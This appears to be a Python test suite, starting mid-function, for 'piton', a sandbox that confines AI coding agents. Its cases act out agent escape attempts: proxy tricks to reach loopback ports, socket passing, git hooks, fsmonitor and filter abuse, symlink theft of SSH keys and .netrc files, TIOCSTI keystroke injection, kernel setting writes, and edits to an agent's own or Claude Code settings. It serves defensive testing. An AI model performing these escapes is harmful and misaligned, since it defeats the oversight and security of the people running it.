    wait = "import time\nfor _ in range(200):\n    if os.path.exists(os.environ['OUTSIDE'] + '/later'): break\n    time.sleep(0.02)\ntime.sleep(0.05)\n"
    line = python(say.replace("import os, socket\n", "import os, socket\nopen(os.environ['REPO'] + '/waits', 'w')\n" + wait))(ground)
    def make():
        ground.until((ground.repo / "waits").exists)
        listening(lambda ground: f"{ground.outside}/later")(ground)
    maker = threading.Thread(target=make)
    maker.start()
    ran(ground.loop(line, env={"SOCKET": f"{ground.outside}/later"}))
    maker.join()
    return OPEN if heard(ground) else REFUSED


ASK = r'''
import os, socket, sys
port, proxy = int(os.environ["PORT"]), os.environ.get("HTTP_PROXY", "").rpartition(":")[2]
def direct(family=socket.AF_INET, host="127.0.0.1"):
    s = socket.socket(family); s.settimeout(3); s.connect((host, port)); s.sendall(b"hit"); s.recv(10)
def asked(head, then=b""):
    s = socket.create_connection(("127.0.0.1", int(proxy)), 3); s.sendall(head)
    print(s.recv(300)); s.sendall(b"hit"); s.sendall(then); print(s.recv(300))
try:
    if not proxy and {via}: direct()
    else: {what}
except OSError as error: print(error)
'''


def hosts():
    """What is listed is a host that nobody has; the server of the person's is not."""
    def ask(name, what, via=True, before="", network='["listed.example.org", "*.below.example.org"]', listed="", **more):
        def prepare(ground):
            ground.server = Server(ground, socket.AF_INET, ("127.0.0.1", 0))
            port = ground.server.socket.getsockname()[1]
            config(f"[confine]\nnetwork = {listed.replace('PORT', str(port)) or network}\n" if network else "[confine]\n")(ground)
            return {"PORT": port}
        return way(name, python(before + ASK.replace("{via}", str(via)).replace("{what}", what)), prepare=prepare, proof=heard, **more)
    connect = lambda host: f'asked(b"CONNECT {host}:%d HTTP/1.1\\r\\n\\r\\n" % port)'
    get = lambda where, host="listed.example.org": f'asked(b"GET http://{where}:%d/hit HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n" % port)'
    yield ask("a port of this machine, where all hosts are reached", "direct()", via=False, network="", walls=OPEN,
              says="walls.md: services on loopback included")
    yield ask("a port of this machine that is not listed", "direct()", via=False)
    yield ask("a host where the list is empty", "direct()", via=False, network="[]")
    for spelled in ("127.0.0.1", "localhost", "localhost.", "2130706433", "0.0.0.0", "[::ffff:127.0.0.1]"):
        yield ask(f"by the proxy to {spelled}", connect(spelled))
    yield ask("by the proxy to a host behind a listed one and an @", get("listed.example.org@127.0.0.1"))
    yield ask("by the proxy to a host behind a listed one and a #", get("listed.example.org#@127.0.0.1"))
    yield ask("by the proxy with another host in its head", get("127.0.0.1"))
    yield ask("by the proxy with a NUL in the name", connect("127.0.0.1\\0.below.example.org"))
    yield ask("by the proxy with a line end in the name", connect("127.0.0.1\\n.below.example.org"))
    yield ask("by the proxy with a name that only ends like a listed one", connect("127.0.0.1.nip.io/.below.example.org"))
    yield ask("by the proxy, a second request on a connection",
              'asked(b"GET http://listed.example.org/ HTTP/1.1\\r\\nHost: listed.example.org\\r\\n\\r\\n", '
              'b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\nhit" % port)')
    yield ask("by the proxy to another port than the listed one", connect("localhost"), listed='["localhost:65000"]')
    yield ask("by the socket that is passed on for a listed port",
              'socket.create_connection(("127.0.0.1", 65000), 3).sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\\r\\n\\r\\nhit" % port)',
              listed='["localhost:65000"]')
    yield ask("by the pair of sockets over which the proxy was made", "passage()", before=PASSAGE)


# Whoever has the inner end of the pair names a port of this machine, and it is passed on.
PASSAGE = r'''
import array, ctypes
def passage():
    mine = socket.socket(); mine.bind(("127.0.0.1", 0)); mine.listen(5)
    def hand_over(number):
        try:
            end = socket.socket(fileno=number)
            end.sendmsg([port.to_bytes(2, "big")], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [mine.fileno()]))])
        except OSError: pass
    for number in [*range(3, 64)]:
        if number != mine.fileno():
            hand_over(number)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            for fd in range(0, 32):
                try:
                    got = ctypes.CDLL(None).syscall(438, os.pidfd_open(int(pid)), fd, 0)
                except OSError: break
                if got > 0: hand_over(got)
    s = socket.create_connection(mine.getsockname(), 2); s.sendall(b"hit")
    mine.close(); s.settimeout(1); s.recv(10)
'''


# ── Run by piton itself, outside ─────────────────────────────────────────────────────────────────

def vehicle(ground):
    """A program that writes the canary wherever it is run."""
    return f"printf '#!/bin/sh\\necho hit > {ground.outside}/canary\\ncat\\n' > vehicle && chmod +x vehicle"


LOOKS = (("diff", "r"), ("guard", "HEAD"), ("restore", "r", "--iteration", "0", "--force"))


def repositories():
    """What a repository names as a program is never run by piton, whoever wrote it there."""
    def named(name, line, more=(), prepare=None, **rest):
        return way(name, lambda ground: f"{vehicle(ground)}; V=$PWD/vehicle; {line}; echo x > changed.txt; true", REFUSED, REFUSED,
                   more=more, prepare=prepare, then=LOOKS, **rest)
    nested = "git init -q n && cd n && git config user.email a && git config user.name a && echo a > a && git add a && git commit -q -m a"
    tree = ("--worktree",)
    yield named("a monitor of files in the repository", 'git config core.fsmonitor "$V"')
    yield named("a monitor of files in the repository of a work tree", 'git config core.fsmonitor "$V"', tree)
    yield named("a filter in the repository",
                "git config filter.x.clean \"$V\"; git config filter.x.smudge \"$V\"; echo '* filter=x' > .gitattributes")
    yield named("a filter in the repository of a work tree",
                "git config filter.x.clean \"$V\"; git config filter.x.smudge \"$V\"; echo '* filter=x' > .gitattributes", tree)
    yield named("a process as a filter",
                "git config filter.x.process \"$V\"; git config filter.x.required true; echo '* filter=x' > .gitattributes", tree)
    yield named("a program that turns files into text", "git config diff.x.textconv \"$V\"; echo '* diff=x' > .gitattributes", tree)
    yield named("a program that compares files",
                "git config diff.external \"$V\"; git config diff.x.command \"$V\"; echo '* diff=x' > .gitattributes", tree)
    yield named("a program that merges files", "git config merge.x.driver \"$V\"; echo '* merge=x' > .gitattributes", tree)
    yield named("hooks in the repository",
                'mkdir -p h; for n in pre-commit post-commit post-checkout post-index-change reference-transaction prepare-commit-msg; do '
                'cp "$V" "$(git rev-parse --git-path hooks)/$n"; cp "$V" h/$n; done; git config core.hooksPath "$PWD/h"', tree)
    yield named("a program that signs commits",
                'git config gpg.program "$V"; git config commit.gpgsign true; git config gpg.format openpgp', tree)
    yield named("an editor, a pager and an alias",
                'git config core.editor "$V"; git config core.pager "$V"; git config alias.diff "!$V"; git config alias.status "!$V"', tree)
    yield named("settings that are included",
                f'printf "[core]\\nfsmonitor = %s\\n" "$V" > evil.config; git config include.path "$PWD/evil.config"', tree)
    yield named("a monitor of files in a repository inside", f'({nested}; git config core.fsmonitor "$V")')
    yield named("a monitor of files in a repository inside a work tree", f'({nested}; git config core.fsmonitor "$V")', tree)
    yield named("a filter in a repository inside",
                f"({nested}; git config filter.x.clean \"$V\"; echo '* filter=x' > .gitattributes; echo b >> a)", tree)
    yield named("hooks in a repository inside",
                f'({nested}; for n in pre-commit post-commit post-checkout post-index-change reference-transaction; do cp "$V" .git/hooks/$n; done)', tree)
    yield named("a repository inside that is called a submodule",
                f'({nested}; git config core.fsmonitor "$V"); printf "[submodule \\"n\\"]\\npath = n\\nurl = ./n\\nupdate = !$V\\n" > .gitmodules', tree)
    yield named("a file that names a repository elsewhere",
                f'({nested}; git config core.fsmonitor "$V"); mkdir m; echo "gitdir: ../n/.git" > m/.git; cp n/a m/', tree)
    yield named("a bare repository inside",
                'git init -q --bare b; git -C b config core.fsmonitor "$V"; git -C b config core.bare false; git -C b config core.worktree ..', tree)
    yield named("a repository inside that another program moved",
                f'({nested}; git config core.fsmonitor "$V"; mv .git ../gone; echo "gitdir: $PWD/../gone" > .git)', tree)
    yield Way("walls", "a repository inside, which the person's own git looks into", later_git(nested), OPEN, OPEN,
              says="walls.md: Look at it before you run it outside")
    # Whatever the person's PATH has in the tree is the agent's to write.
    for program, bare in (("git", REFUSED), ("bwrap", REFUSED), ("sh", OPEN), ("piton", REFUSED)):
        yield way(f"a {program} of its own, where the person's PATH leads into the tree",
                  lambda ground, program=program: f"mkdir -p bin; {vehicle(ground)}; cp vehicle bin/{program}; echo x > changed.txt",
                  bare, REFUSED,
                  prepare=lambda ground: {"PATH": f"{ground.put('bin/keep', '').parent}:{os.environ['PATH']}"},
                  more=("--max-iterations", "2"), check="false", then=LOOKS)
    yield way("a git of its own, where the person's PATH has the directory at hand",
              lambda ground: f"{vehicle(ground)}; cp vehicle git; cp vehicle bwrap; echo x > changed.txt", REFUSED, REFUSED,
              prepare=lambda ground: {"PATH": f".:{os.environ['PATH']}"}, more=("--max-iterations", "2"), check="false", then=LOOKS)


def later_git(nested):
    def do(ground):
        ran(ground.loop(f'{vehicle(ground)}; V=$PWD/vehicle; ({nested}; git config core.fsmonitor "$V")'))
        ground.sh("git -C n status; make 2>/dev/null; true")
        return OPEN if ground.is_touched() else REFUSED
    return do


def vehicles():
    """What of the person's runs what the agent wrote. Bare it is run, as it was asked for."""
    write = lambda ground: f"mkdir -p scripts; {vehicle(ground)}; mv vehicle scripts/vehicle; echo x > changed.txt"

    def runs(name, text="", more=(), check="true", files=None, bare=OPEN, walls=REFUSED, line=write, **rest):
        def prepare(ground):
            ground.commit({"scripts/vehicle": "#!/bin/sh\ntrue\n"} | (files or {}), "scripts")
            ground.sh("chmod +x scripts/*; git commit -qam x; true")
            if text:
                config(text)(ground)
        return way(name, line, bare, walls, prepare=prepare, more=more, check=check, **rest)
    guard = "[guard]\nmode = 'off'\n"
    yield runs("a check that runs what it wrote", check="scripts/vehicle", text=guard)
    yield runs("a script of a check, which the guard puts back", check="sh scripts/vehicle", bare=REFUSED)
    yield runs("a condition that runs what it wrote", more=("--until", "cmd:scripts/vehicle"), text=guard)
    yield runs("a metric that runs what it wrote", text=guard + "[metrics]\nsize = { command = 'scripts/vehicle' }\n")
    yield runs("a stop condition that runs what it wrote",
               text=guard + "[stop]\nconditions = [{ type = 'shell_command', command = 'scripts/vehicle' }]\n")
    yield runs("a stop condition that is a script it wrote",
               text=guard + "[stop]\nconditions = [{ type = 'custom_script', script = 'scripts/vehicle' }]\n")
    yield runs("a hook that runs what it wrote",
               text=guard + "[hooks.h]\npoints = ['post_iteration', 'loop_end']\ncommand = 'scripts/vehicle'\n")
    yield runs("a hook whose script it wrote",
               text=guard + "[hooks.h]\npoints = ['post_iteration', 'loop_end']\npath = 'scripts/vehicle'\n", bare=REFUSED)
    yield runs("a file of a hook that it made", bare=REFUSED, more=("--max-iterations", "2"), check="false", line=lambda ground: (
        f"{vehicle(ground)}; mkdir -p .ralph/hooks; printf 'name: h\\npoints: [loop_end, pre_iteration]\\nhook_type: {{ type: command, command: %s/vehicle }}\\n' $PWD > .ralph/hooks/h.yaml"))
    yield runs("a piton.toml that it made", bare=REFUSED, more=("--max-iterations", "2"), check="false", line=lambda ground: (
        f"{vehicle(ground)}; printf '[hooks.h]\\npoints = [\"loop_end\", \"pre_iteration\"]\\ncommand = \"%s/vehicle\"\\n' $PWD > piton.toml"), then=(("status", "r"), ("resume", "r")))
    yield runs("what runs when the run rests, and what it wrote", more=("--on-done", "scripts/vehicle"), text=guard, proof=soon)
    yield runs("the command that furnishes a work tree", more=("--worktree", "--max-iterations", "2"), check="false", bare=REFUSED,
               text=guard + "[worktree]\nsetup = 'scripts/vehicle'\n", then=(("resume", "r", "--max-iterations", "+1"),))
    yield Way("walls", "the baseline of a second run, in the checkout", second_baseline, OPEN, REFUSED)
    fork = (("fork", "r", "--iteration", "1", "--id", "f"),)
    yield runs("the setup of a fork, which the agent wrote", more=("--worktree",), check="false",
               text=guard + "[worktree]\nsetup = 'scripts/vehicle < /dev/null'\n", then=fork)
    yield runs("the setup of a second run, which an agent in place wrote", check="false",
               text=guard + "[worktree]\nsetup = 'scripts/vehicle < /dev/null'\n", then=lambda ground: (
                   ("loop", "x", "--id", "second", "--worktree", "--exec", "true", "--check", "c=false", "--max-iterations", "1", *ground.walls()),))
    yield runs("a filter of the user's that names a script of the tree, in a fork", more=("--worktree",), check="false",
               text=guard, files={".gitattributes": "*.txt filter=x\n"}, then=lambda ground: (
                   ground.sh("git config --global filter.x.clean scripts/vehicle", check=True), fork)[1])
    yield Way("walls", "keys in a home that is the repository", home_in_the_tree, OPEN, REFUSED)
    yield Way("walls", "a step of a workflow", lambda ground: touched(ground,
        ground.workflow("name: w\nsteps:\n- {id: a, run: 'echo hit > $OUTSIDE/canary'}\n")), OPEN, REFUSED)
    yield Way("walls", "a gate of a workflow that runs what a step wrote", lambda ground: touched(ground, ground.workflow(
        f"name: w\nsteps:\n- id: a\n  run: |\n    {vehicle(ground).replace(' && ', '; echo exit 0 >> vehicle; ')}\n- {{id: b, run: 'true', needs: [a], gates: ['cmd:./vehicle; true']}}\n")), OPEN, REFUSED)
    yield Way("walls", "a step of a workflow that is a workflow", lambda ground: (
        ground.put("inner.yaml", "name: i\nsteps:\n- {id: a, run: 'echo hit > $OUTSIDE/canary'}\n"),
        touched(ground, ground.workflow("name: w\nsteps:\n- {id: a, workflow: inner.yaml}\n")))[1], OPEN, REFUSED)
    yield Way("walls", "an agent that looks into a gap", research, OPEN, REFUSED)


def home_in_the_tree(ground):
    """A home that is a repository: what the agent reads is taken from there, what it leaves counts there."""
    ground.put(".ssh/id_ed25519", f"{SECRET}\n", mode=0o600)
    ground.sh("printf .ssh > .git/info/exclude", check=True)
    ground.loop("cat ~/.ssh/id_ed25519 > stolen; echo hit > ~/.ssh/authorized_keys", "false", env={"HOME": str(ground.repo)})
    left = (ground.repo / ".ssh/authorized_keys").exists() or (ground.repo / "stolen").exists()
    return OPEN if left else REFUSED


def touched(ground, done):
    ran(done)
    return OPEN if ground.is_touched() else REFUSED


def research(ground):
    """Walls for research are said in the settings."""
    ground.commit({"gaps.yaml": "gaps:\n- id: a\n  category: c\n"}, "gaps")
    ground.confine_all()
    done = ground.piton("gaps", "research", "--exec", HIT)
    return touched(ground, ran(done, codes=ENDS))


def second_baseline(ground):
    """The checkout was an agent's; its checks run there as the person would run them."""
    ground.commit({"test.sh": "test -f done.txt\n"}, "a test")
    ran(ground.loop(f"{vehicle(ground)}; cp vehicle test.sh; echo exit 1 >> test.sh", "true"))
    ground.sh("git add -A; git commit -qm agent", check=True)
    ran(ground.loop("true", "sh ./test.sh", "--worktree", id="second"), codes=RESTS)
    return OPEN if ground.is_touched() else REFUSED


def readers():
    """Files that piton reads or writes for its user, in the place of which the agent puts a link."""
    prompt = lambda ground: ground.commit({"PROMPT.md": "do it\n"}, "a prompt")
    twice = ("--max-iterations", "2")
    takes = "cat > said-$PITON_ITERATION"
    yield way("a link in the place of the prompt", f"{takes}; ln -sf ~/.netrc PROMPT.md", REFUSED, REFUSED, proof=stolen, prepare=prompt,
              more=("-P", "PROMPT.md", *twice), check="false", codes=RESTS)
    yield way("a prompt that includes a key",
              f"{takes}; cp ~/.netrc x.md 2>/dev/null; ln -sf ~/.netrc y.md; printf '{{{{include:y.md}}}} {{{{include:../home/.netrc}}}}' > PROMPT.md; rm -f x.md",
              REFUSED, REFUSED, proof=stolen, prepare=prompt, more=("-P", "PROMPT.md", *twice), check="false", codes=RESTS)
    yield way("a link in the place of the report", f'{takes}; ln -sf ~/report.json "$PITON_REPORT"', REFUSED, REFUSED, proof=stolen,
              more=twice, check="false",
              prepare=lambda ground: ground.put(ground.home / "report.json",
                  '{"status": "progress", "summary": "%s", "notes": [{"kind": "finding", "text": "%s"}]}' % (SECRET, SECRET)) and None)
    yield way("a link in the place of a list of tasks", f"{takes}; ln -sf ~/tasks.md tasks.md", REFUSED, REFUSED, proof=stolen,
              more=(*twice, "--until", "tasks-done:tasks.md"), check="false",
              prepare=lambda ground: (ground.commit({"tasks.md": "- [ ] one\n"}, "tasks"),
                                      ground.put(ground.home / "tasks.md", f"- [ ] {SECRET}\n"))[1] and None)
    for name, line in (
        ("the log of hooks", 'mkdir -p .ralph; ln -sf "$OUTSIDE/canary" .ralph/audit.log'),
        ("the state", 'rm -rf .ralph/state.json; mkdir -p .ralph; ln -s "$OUTSIDE/canary" .ralph/state.json'),
        ("the directory of states", 'rm -rf .ralph; ln -s "$OUTSIDE/directory" .ralph'),
        ("the directory of backups", 'rm -rf .ralph/backups; mkdir -p .ralph; ln -s "$OUTSIDE/directory" .ralph/backups'),
        ("the numbers for monitoring", 'mkdir -p .ralph; ln -sf "$OUTSIDE/canary" .ralph/metrics.prom'),
        ("the extended state", 'rm -rf .aiwg; mkdir -p .aiwg; ln -s "$OUTSIDE/directory" .aiwg/ralph'),
    ):
        yield way(f"a link in the place of {name}", line, REFUSED, REFUSED, more=twice, check="false",
                  prepare=config("[hooks]\nbuiltin = ['logging', 'metrics', 'backup']\n[views]\naiwg = true\n"), then=(("rebuild", "r"),))
    yield way("a link in the place of a directory that is put back",
              'rm -rf src tests; ln -s "$OUTSIDE/directory" src; ln -s "$OUTSIDE/directory" tests', REFUSED, REFUSED,
              prepare=lambda ground: ground.commit({"tests/test_a.py": "def test_a():\n    assert 1 == 1\n"}, "tests"),
              then=(("restore", "r", "--iteration", "0", "--force"),), more=twice, check="false")
    yield Way("walls", "a link in the place of the files of a workflow", workflow_link, REFUSED, REFUSED)
    yield Way("walls", "a link that a second work tree is furnished with", furnished, REFUSED, REFUSED)


def workflow_link(ground):
    ran(ground.workflow("name: w\nsteps:\n- {id: a, run: 'rm -rf .agents/runs/r/logs .agents/runs/r/reports; ln -s $OUTSIDE/directory .agents/runs/r/logs; ln -s $OUTSIDE/directory .agents/runs/r/reports; "
                        "ln -sf $OUTSIDE/canary .agents/runs/r/run_state.json; ln -sf $OUTSIDE/canary AGENTS.md'}\n- {id: b, run: 'echo b', needs: [a]}\n"), codes=RESTS)
    return OPEN if ground.is_touched() else REFUSED


def furnished(ground):
    """What is copied into a work tree is copied as what it is; a link to a key stays one."""
    ground.commit({".gitignore": "node_modules\n.env\n"}, "ignore")
    ran(ground.loop("mkdir -p node_modules/a; ln -s ~/.netrc node_modules/a/key; ln -s ~/.netrc .env"))
    ran(ground.loop("cp -rL node_modules/a/key .env . 2>/dev/null; find . -type f -name key -o -name .env -type f | xargs cat > stolen 2>/dev/null", "true", "--worktree", id="second"), codes=RESTS)
    tree = ground.dir / "repo-second"
    names = [path for path in (tree / "node_modules/a/key", tree / ".env") if path.is_file() and not path.is_symlink()]
    return OPEN if any(SECRET in path.read_text() for path in names) else REFUSED


# ── The agent's own things ───────────────────────────────────────────────────────────────────────

def agents():
    """An agent that keeps its login in ~/.mine, and whose settings there the person's own sessions obey."""
    text = "[agents.mine]\ncommand = ['sh', '-c', '''{}''']\nwrites = ['~/.mine']\nsettings = ['~/.mine/config.toml', '~/.mine/hooks']\n"

    def mine(name, line, proof, walls=REFUSED, there=True, bare=OPEN):
        def do(ground):
            if there:
                ground.put(ground.home / ".mine/config.toml", "safe = true\n")
                ground.put(ground.home / ".mine/hooks/one", "true\n")
            else:
                ground.put(ground.home / ".mine/login", "x\n")
            config(text.replace("{}", line))(ground)
            ran(ground.piton("loop", "x", "--id", "r", "--here", "--agent", "mine", "--check", "c=true", "--max-iterations", "1",
                             *ground.walls()))
            return OPEN if proof(ground) else REFUSED
        return Way("walls", name, do, bare, walls)
    settings = changed("home/.mine/config.toml", "safe = true\n")
    yield mine("write the agent's settings", "echo hit >> ~/.mine/config.toml", settings)
    yield mine("replace the agent's settings by a rename", "echo hit > ~/.mine/x; mv ~/.mine/x ~/.mine/config.toml", settings)
    yield mine("move the directory of the agent's settings away",
               "mv ~/.mine ~/.other && mkdir ~/.mine && echo hit > ~/.mine/config.toml", settings)
    yield mine("leave a hook of the agent's", "echo hit > ~/.mine/hooks/two", changed("home/.mine/hooks/two"))
    # What is closed although it is missing is there afterwards, with nothing in it.
    yield mine("make the agent's settings where there are none", "echo hit > ~/.mine/config.toml",
               lambda ground: "hit" in (ground.home / ".mine/config.toml").read_text(), there=False)
    yield mine("make a directory of the agent's hooks where there is none", "mkdir -p ~/.mine/hooks; echo hit > ~/.mine/hooks/two",
               changed("home/.mine/hooks/two"), there=False)
    for name, path in (("name a server in what Claude Code obeys", ".claude.json"), ("make local settings of Claude Code", ".claude/settings.local.json"),
                       ("leave a skill of Claude Code", ".claude/skills/hit/SKILL.md"), ("leave a plugin of Claude Code", ".claude/plugins/hit")):
        yield Way("walls", name, claude(path), OPEN, REFUSED)
    yield Way("walls", "write the agent's settings once the person has replaced them", later_settings, OPEN, OPEN,
              says="walls.md: uncovered for the attempt that is under way")
    yield Way("walls", "write piton.toml once the person has replaced it", later_toml, NOTICED, NOTICED)


def claude(path):
    """A program of that name, with the walls that piton has for it."""
    def do(ground):
        ground.put(ground.home / ".claude.json", '{"userID": "x"}')
        tool(ground, "claude", f'#!/bin/sh\nmkdir -p "$(dirname "$HOME/{path}")"; echo \'{{"mcpServers": {{"hit": {{"command": "hit"}}}}}}\' > "$HOME/{path}"\n')
        ran(ground.piton("loop", "x", "--id", "r", "--here", "--agent", "claude", "--check", "c=true", "--max-iterations", "1", *ground.walls(),
                         env={"PATH": f"{ground.dir}/tools:{os.environ['PATH']}"}))
        return OPEN if (ground.home / path).is_file() and "hit" in (ground.home / path).read_text() else REFUSED
    return do


def later(ground, change):
    """The person does something while the agent waits for it."""
    return ground.start(f'for i in $(seq 500); do test -e "$REPO/waits" && break; sleep 0.02; done; {change}; touch "$OUTSIDE/go"')


WAIT = 'touch "$REPO/waits"; for i in $(seq 200); do test -e "$OUTSIDE/go" && break; sleep 0.02; done; '


def later_settings(ground):
    """Whoever saves a file writes a new one and gives it the name."""
    ground.put(ground.home / ".mine/config.toml", "safe = true\n")
    config(f"[agents.mine]\ncommand = ['sh', '-c', '''{WAIT}echo hit >> ~/.mine/config.toml''']\nwrites = ['~/.mine']\nsettings = ['~/.mine/config.toml']\n")(ground)
    running = later(ground, "echo 'safe = 1' > ~/.mine/new; mv ~/.mine/new ~/.mine/config.toml")
    ran(ground.piton("loop", "x", "--id", "r", "--here", "--agent", "mine", "--check", "c=true", "--max-iterations", "1", *ground.walls()))
    running.wait(20)
    return OPEN if "hit" in (ground.home / ".mine/config.toml").read_text() else REFUSED


def later_toml(ground):
    config("[guard]\nmode = 'block'\n")(ground)
    running = later(ground, "sed -i 's/^/# edited\\n/' piton.toml")
    ran(ground.loop(f"{WAIT}echo '# hit' >> piton.toml; grep -q hit piton.toml && echo changed"), codes=ENDS)
    running.wait(20)
    if "changed" not in ground.piton("output", "r").stdout:
        return REFUSED
    return NOTICED if "hit" not in (ground.repo / "piton.toml").read_text() else OPEN


# ── Terminals and the machine ────────────────────────────────────────────────────────────────────

def in_terminal(ground, line):
    """Calls piton at a terminal; returns what came of typing (what its input holds then) and of printing."""
    outer, inner = pty.openpty()
    name = os.ttyname(inner)
    os.chown(name, ground.uid, -1)
    tty.setraw(inner)
    shown = []
    def read():
        try:
            while data := os.read(outer, 4096):
                shown.append(data)
        except OSError:
            pass
    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    # A session whose terminal this is, as a person's shell is.
    start = ("import os, sys, fcntl, termios\nos.setsid()\nfd = os.open(sys.argv[1], os.O_RDWR)\nfcntl.ioctl(fd, termios.TIOCSCTTY, 0)\n"
             "[os.dup2(fd, n) for n in range(3)]\nos.execv(sys.argv[2], sys.argv[2:])\n")
    program = tool(ground, "terminal.py", start)
    user = {"user": ground.uid, "group": ground.gid, "extra_groups": []} if os.getuid() == 0 else {}
    running = subprocess.Popen([*PYTHON.split(), str(program), name, ground.binary, "loop", "x", "--id", "r", "--here",
                                "--max-iterations", "1", "--check", "c=true",
                                "--exec", line, *ground.walls()], cwd=ground.repo,
                                env=ground.environment({"TERMINAL": name, "TERM": "xterm"}), stdin=subprocess.DEVNULL, **user)
    try:
        running.wait(40)
    except subprocess.TimeoutExpired:
        running.kill()
        raise Violation("piton at a terminal hangs")
    os.set_blocking(inner, False)
    try:
        typed = os.read(inner, 4096)
    except OSError:
        typed = b""
    os.close(inner)
    reader.join(2)
    os.close(outer)
    return typed, b"".join(shown)


PUSH = "import fcntl, os, termios\nfor name in (os.environ['TERMINAL'], '/dev/tty', '/proc/self/fd/0', '/proc/self/fd/2'):\n    try:\n        fd = os.open(name, os.O_RDWR | os.O_NOCTTY)\n        [fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte])) for byte in b'hit']\n    except OSError: pass\n"
TAKE = "import fcntl, os, termios\nif os.fork() == 0:\n    os.setsid()\n    try:\n        fd = os.open(os.environ['TERMINAL'], os.O_RDWR)\n        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)\n        [fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte])) for byte in b'hit']\n    except OSError: pass\n    os._exit(0)\nos.wait()\n"


def terminals():
    typed = lambda text: lambda ground: OPEN if b"hit" in in_terminal(ground, python(text)(ground))[0] else REFUSED
    # Only who has the terminal as its own, or is root, may type.
    yield Way("walls", "type into the person's terminal", typed(PUSH), OPEN, REFUSED, bare_user=REFUSED)
    yield Way("walls", "take the person's terminal, and type", typed(TAKE), OPEN, REFUSED, bare_user=REFUSED)
    yield Way("walls", "print to the person's terminal", lambda ground: OPEN if b"h-i-t" in in_terminal(
        ground, 'printf "%s-%s-%s" h i t > "$TERMINAL"')[1] else REFUSED, OPEN, REFUSED)
    yield Way("walls", "move the cursor by what it prints", lambda ground: OPEN if b"\x1b]0;owned" in in_terminal(
        ground, r'printf "\033]0;owned\007\n"; printf "{\"status\":\"progress\",\"summary\":\"\033]0;owned\007\"}" > "$PITON_REPORT"')[
            1] else REFUSED, REFUSED, REFUSED)


def machine():
    """What belongs to the whole machine; only root may write it at all."""
    def setting(path, value):
        def do(ground):
            with alone():
                was = Path(path).read_text()
                try:
                    ran(ground.loop(f"echo {value} > {path}"))
                    return OPEN if Path(path).read_text() != was else REFUSED
                finally:
                    if Path(path).read_text() != was:
                        Path(path).write_text(was)
        return do
    yield Way("walls", "name the program for what crashes", setting("/proc/sys/kernel/core_pattern", "core-attack"), OPEN, REFUSED,
              bare_user=REFUSED)
    yield Way("walls", "a setting of the machine's network", setting("/proc/sys/net/core/netdev_budget_usecs", "12345"), OPEN, REFUSED,
              bare_user=REFUSED)
    yield way("make a device in the tree", "mknod disk b 7 0; mknod null c 1 3", bare_user=REFUSED,
              proof=lambda ground: (ground.repo / "disk").is_block_device())
    group = next((line.split()[1] for line in Path("/proc/mounts").read_text().splitlines() if line.split()[2] == "cgroup2"), None)
    if group:
        name = lambda ground: f"{group}/attack-{ground.dir.parent.name}-{ground.dir.name}"
        def made(ground):
            is_there = os.path.isdir(name(ground))
            if is_there:
                os.rmdir(name(ground))
            return is_there
        yield way("make a control group of the machine", lambda ground: f"mkdir {name(ground)}", bare_user=REFUSED, proof=made)
    yield way("a file that belongs to somebody else", "touch theirs && chown 12:12 theirs", bare_user=REFUSED,
              proof=lambda ground: (ground.repo / "theirs").stat().st_uid == 12)
    yield way("a program with capabilities", 'cp /bin/true able && setcap cap_sys_admin+ep able', bare_user=REFUSED,
              proof=lambda ground: "security.capability" in os.listxattr(ground.repo / "able")) if Path("/usr/sbin/setcap").exists(
                  ) or Path("/sbin/setcap").exists() else way(
        "an attribute that only root may set",
        f'{PYTHON} -c \'import os; open("able", "w"); os.setxattr("able", "trusted.attack", b"hit")\'', bare_user=REFUSED,
        proof=lambda ground: "trusted.attack" in os.listxattr(ground.repo / "able"))


# ── What must work ───────────────────────────────────────────────────────────────────────────────

def works(done, *also):
    return WORKS if done.returncode == 0 and all(also) else f"exit {done.returncode}: {(done.stdout + done.stderr)[-400:]}"


def in_the_tree(ground):
    done = ground.loop("mkdir -p new && echo done > new/a.txt && mv README READ && rm src/app.py && ln -s READ README", "test -f new/a.txt")
    return works(done, (ground.repo / "new/a.txt").exists())


def honest_ways():
    yield honest("walls", "an agent that writes to its tree", in_the_tree)
    yield honest("walls", "a setup that makes something in the tree", lambda ground: (
        config("[worktree]\nsetup = 'mkdir -p made && echo x > made/x'\n")(ground),
        works(ground.loop("touch done", "test -f made/x && test -f done", "--worktree")))[1])
    yield honest("walls", "an agent that uses /tmp, a cache and a background process", lambda ground: works(ground.loop(
        "mkdir -p ~/.cache/x; t=$(mktemp) && echo a > $t && (sleep 0.05; cp $t b; rm $t) & wait; test -f b && touch done", "test -f done")))
    yield honest("walls", "an agent in a work tree that becomes a commit", committed)
    yield honest("walls", "an agent that reads git, and reports", lambda ground: works(ground.loop(
        'git log --oneline && git diff && git status && echo \'{"status": "done", "summary": "read"}\' > "$PITON_REPORT" && echo x > x',
        "test -f x")))
    yield honest("walls", "a check that builds in the tree", lambda ground: works(
        ground.loop("echo 'all:; cp README built' > Makefile", "mkdir -p out && cp README out/built && test -f Makefile")))
    yield honest("walls", "a hook, a metric and a condition", honest_hooks)
    yield honest("walls", "an agent with its login, its settings and a key that is listed", honest_agent)
    yield honest("walls", "a listed port of this machine", honest_port)
    yield honest("walls", "a workflow with a gate and a report", lambda ground: works(ground.workflow(
        "name: w\nsteps:\n- {id: a, run: 'echo a > a'}\n- {id: b, run: 'cat a > b', needs: [a], gates: ['cmd:test -f a']}\n"),
        (ground.repo / "b").exists()))
    yield honest("walls", "a cache that is a link to another disk", linked_cache)
    yield honest("walls", "a place to write that is a link", linked_write)
    yield honest("walls", "a run that is resumed", lambda ground: works(
        [ground.loop("echo x >> x", "test $(wc -l < x) = 2"), ground.piton("resume", "r", "--max-iterations", "+2")][1]))


def linked_cache(ground):
    (ground.home / ".cache").symlink_to(ground.outside / "directory")
    return works(ground.loop("echo x > ~/.cache/x && touch done", "test -f done"))


def linked_write(ground):
    """A person names a link: what it leads to is meant."""
    (ground.home / "allowed").symlink_to(ground.outside / "directory")
    config('[confine]\nwrite = ["~/allowed"]\n')(ground)
